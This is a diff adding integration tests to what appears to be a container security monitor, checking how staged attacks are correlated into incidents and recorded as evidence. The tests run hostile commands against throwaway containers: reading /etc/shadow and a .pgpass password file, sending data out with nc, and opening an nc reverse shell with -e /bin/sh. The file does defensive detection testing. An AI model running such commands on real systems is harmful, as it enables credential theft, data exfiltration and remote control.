@@ -1,7 +1,11 @@
 """Incidents: attacks in real containers, told as one story each, and what is no attack as none."""
 import json
+import os
+import re
 import secrets
+import signal
 import subprocess
+import tarfile
 import tempfile
 import urllib.parse
 
@@ -70,6 +74,10 @@ def cli(central, *argv, status=0):
 
 def findings(central, container):
     return central.root().get("/api/v1/findings?" + urllib.parse.urlencode({"limit": 500, "container": container})).json["findings"]
+
+
+def sensor_processes(central, container):
+    return central.root().get("/api/v1/processes?" + urllib.parse.urlencode({"limit": 500, "container": container})).json["processes"]
 
 
 def rules_of(i):
@@ -203,6 +211,95 @@ def test_the_stream_tells_how_it_grows(central, sensor, docker, name):
         b.run("cat /etc/shadow", ok=None)
         live.wait(lambda i, e, d: e == "incident" and name in json.dumps(d) and "credential-access" in json.dumps(d), 15, "its next stage in the stream")
     live.close()
+
+
+def address_of(docker, name):
+    return docker.docker("inspect", "-f", "{{.NetworkSettings.IPAddress}}", name).stdout.strip()
+
+
+def test_what_a_credential_that_was_read_led_to_belongs_to_it(central, sensor, docker, name):
+    """No finding tells of the connection: a database is reached by a program that never did so, right after its password was read. Without that read the two are two."""
+    with box(docker, f"{name}-web", project=name) as web, box(docker, f"{name}-db", project=name) as db, box(docker, f"{name}-x", project=name) as x, box(docker, f"{name}-y", project=name) as y:
+        for server in (db, y):
+            server.run("busybox httpd -p 5432 -h /tmp; sleep 0.3")
+        for client, server in ((x, f"{name}-y"), (web, f"{name}-db")):
+            client.run("/usr/sbin/nginx sh 'true; true'")
+            wait_incident(central, client.name)
+            if client is web:
+                client.run("printf 'db:5432:*:app:pw' >/root/.pgpass; cat /root/.pgpass")
+                wait_incident(central, client.name, lambda i: "credential-access" in i["tactics"])
+            client.run(f"wget -q -O /dev/null http://{address_of(docker, server)}:5432/nothing", ok=None)
+        for server in (y, db):
+            server.run("cat /etc/shadow", ok=None)
+        i = wait_incident(central, db.name, lambda i: len(i["containers"]) == 2, deadline=40)
+        other = wait_incident(central, y.name)
+        assert [c["name"] for c in other["containers"]] == [y.name], other
+    assert {c["name"] for c in i["containers"]} == {web.name, db.name}, i["containers"]
+    there = next(line for line in i["timeline"] if line["container_name"] == db.name)
+    assert there["rule"] == "Password hashes read" and there["joined_by"] == "credential" and there["used"] == "/root/.pgpass", there
+    assert not any(line["object"].endswith(":5432") for line in i["timeline"]), i["timeline"]
+    assert f"in container {db.name} reached after the database password /root/.pgpass was read: Password hashes read" in i["story"], i["story"]
+
+
+def test_it_tells_what_still_runs_and_what_went_out(central, sensor, docker, name, tmp_path):
+    with box(docker, name, project=name) as b, box(docker, f"{name}-far", project=name) as far:
+        peer = address_of(docker, far.name)
+        listening = far.start("nc -l -p 5555 >/dev/null")
+        b.run("mkdir /opt/kit /opt/out; cp /bin/busybox /opt/kit; cp /bin/busybox /opt/out; /opt/kit/busybox sleep 600 >/dev/null 2>&1 & sleep 0.5; head -c 200000 /dev/zero | /opt/out/busybox nc -w 1 " + peer + " 5555")
+        far.wait(listening, ok=None)
+        i = wait_incident(central, name)
+
+        def now(pattern):
+            said = incident(central, i["id"])["now"]
+            return re.search(pattern, said), said
+        wait_for(lambda: now(rf"Since [0-9-]+ [0-9:]+ UTC container {name} sent 20\d\.\d kB to {re.escape(peer)}:5555 \(and got none\)"), 40, "what went out")
+        wait_for(lambda: now(rf"Program /opt/out/busybox has ended in container {name}\."), 15, "that the one has ended")
+        wait_for(lambda: now(rf"Program /opt/kit/busybox still runs as pid \d+ in container {name}\."), 15, "that the other runs")
+        pid = int(now(r"still runs as pid (\d+)")[0][1])
+        assert pid in [p["pid"] for p in sensor_processes(central, name)], pid
+        tar = tmp_path / "x.tar"
+        cli(central, "evidence", "export", "--incident", str(i["id"]), "-o", str(tar))
+        with tarfile.open(tar) as archive:
+            report = archive.extractfile(next(m for m in archive.getmembers() if m.name.endswith("report.html"))).read().decode()
+        assert re.search(rf"As of [0-9-]+ [0-9:]+ UTC, when this report was made: .*still runs as pid {pid} in container {name}", report), report
+        text = cli(central, "incident", str(i["id"]))
+        assert re.search(r"Severity of \d+ points: stages \d+", text), text
+        os.kill(pid, signal.SIGKILL)
+        wait_for(lambda: now(rf"Program /opt/kit/busybox has ended in container {name}\."), 15, "that it has ended")
+    assert incident(central, i["id"])["weighed"]["stages"] >= 4
+
+
+def streams(central, number):
+    answer = central.root().get("/api/v1/evidence?" + urllib.parse.urlencode({"limit": 100, "incident": number, "kind": "stream"}))
+    assert answer.status == 200, answer
+    return answer.json["evidence"]
+
+
+def test_what_went_over_a_reverse_shell_is_sealed_both_ways(central, sensor, docker, name):
+    """From its first byte on, since it was made after a first finding; secrets are taken out, and nothing of what else the container says to others is there."""
+    with box(docker, name, project=name) as b, box(docker, f"{name}-far", project=name) as far:
+        b.run("/usr/sbin/nginx sh 'true; true'")
+        i = wait_incident(central, name)
+        wait_for(lambda: sensor.status()["evidence"]["streams"]["containers"], 10, "the container is suspicious")
+        peer = address_of(docker, far.name)
+        serving = far.start("(sleep 1; echo 'echo it is $((6*7))'; echo 'echo password=hunter2'; sleep 1; echo exit) | nc -l -p 4444 >/tmp/got")
+        b.run(f"sleep 0.5; nc -w 4 {peer} 4444 -e /bin/sh; true")
+        far.wait(serving, ok=None)
+        assert "it is 42" in far.run("cat /tmp/got")
+        def one():
+            found = streams(central, i["id"])
+            return len(found) == 1, found
+        kept = wait_for(one, 40, "its first bytes are evidence")[0]
+    text = central.root().get(f"/api/v1/evidence/{kept['id']}/data").body
+    text = text.decode() if isinstance(text, bytes) else text
+    print(text)
+    assert kept["path"] == f"{peer}:4444" and kept["kind"] == "stream", kept
+    assert f"with {peer}:4444, which it opened, ended" in text, text
+    sent, got = text.split("got: ")
+    assert "echo it is $((6*7))" in got and "from 0 on" in got, text
+    assert "it is 42" in sent and re.search(r"sent: \d+ bytes from 0 on", sent), text
+    assert "hunter2" not in text and "password=***" in got, text
+    assert "Evidence" in cli(central, "incident", str(i["id"])) and "stream" in cli(central, "evidence", "list", "--incident", str(i["id"]))
 
 
 def test_a_killed_central_goes_on_with_the_same_incident(central, sensor, docker, name):
